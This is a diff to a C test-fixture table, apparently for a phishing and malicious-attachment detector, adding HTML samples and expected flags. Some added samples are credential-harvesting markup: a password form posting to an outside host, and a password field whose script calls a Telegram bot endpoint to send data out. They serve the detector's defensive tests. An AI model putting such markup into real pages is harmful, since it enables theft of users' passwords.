@@ -91,10 +91,15 @@ static const struct {
 	{ "Remittance.html", "text/html", "<form action=\"https://x.example/"
 	    "p\"><input type=\"password\" name=\"p\"></form>",
 	    MIME_PAGE | MIME_PAGE_PASSWORD },
-	{ "x.HTM", "application/octet-stream", "<INPUT TYPE = 'Password'>",
+	{ "x.HTM", "application/octet-stream", "<form ACTION = 'https://x."
+	    "example/'><INPUT TYPE = 'Password'>",
 	    MIME_PAGE | MIME_PAGE_PASSWORD },
-	{ "", "text/html", "<input type=password>",
+	{ "", "text/html", "<input type=password><script>fetch('https://api."
+	    "telegram.org/bot1/send')</script>",
 	    MIME_PAGE | MIME_PAGE_PASSWORD },
+	/* a web developer's template posts to its own site */
+	{ "login.html", "text/html", "<form action=\"/login\" method=\"post\">"
+	    "<input type=\"password\" name=\"pw\"></form>", MIME_PAGE },
 	{ "VM.svg", "application/octet-stream", "<svg><script>var a=1;"
 	    "</script></svg>", MIME_PAGE | MIME_PAGE_REDIRECT },
 	{ "a.bin", "image/svg+xml", "<svg onload =\"go()\"></svg>",
@@ -358,6 +363,10 @@ static const struct {
 	    "https://www.paypal-fans.example/", R_URL_BRAND_HOST, 0 },
 	{ "a free page host", NULL, NULL, "plain",
 	    "https://acme-invoice.pages.dev/", R_URL_FREE_HOST, 1 },
+	{ "the sender's own preview site on a page host",
+	    "Team <noreply@mysaas.example>", NULL, "html", "<p>Please verify "
+	    "your email within 24 hours: <a href=\"https://mysaas-app.vercel."
+	    "app/verify/7f3a\">verify</a></p>", R_PHISH, 0 },
 	{ "a Google form", NULL, NULL, "plain",
 	    "https://docs.google.com/forms/d/e/1FAIpQL/viewform",
 	    R_URL_FREE_HOST, 1 },
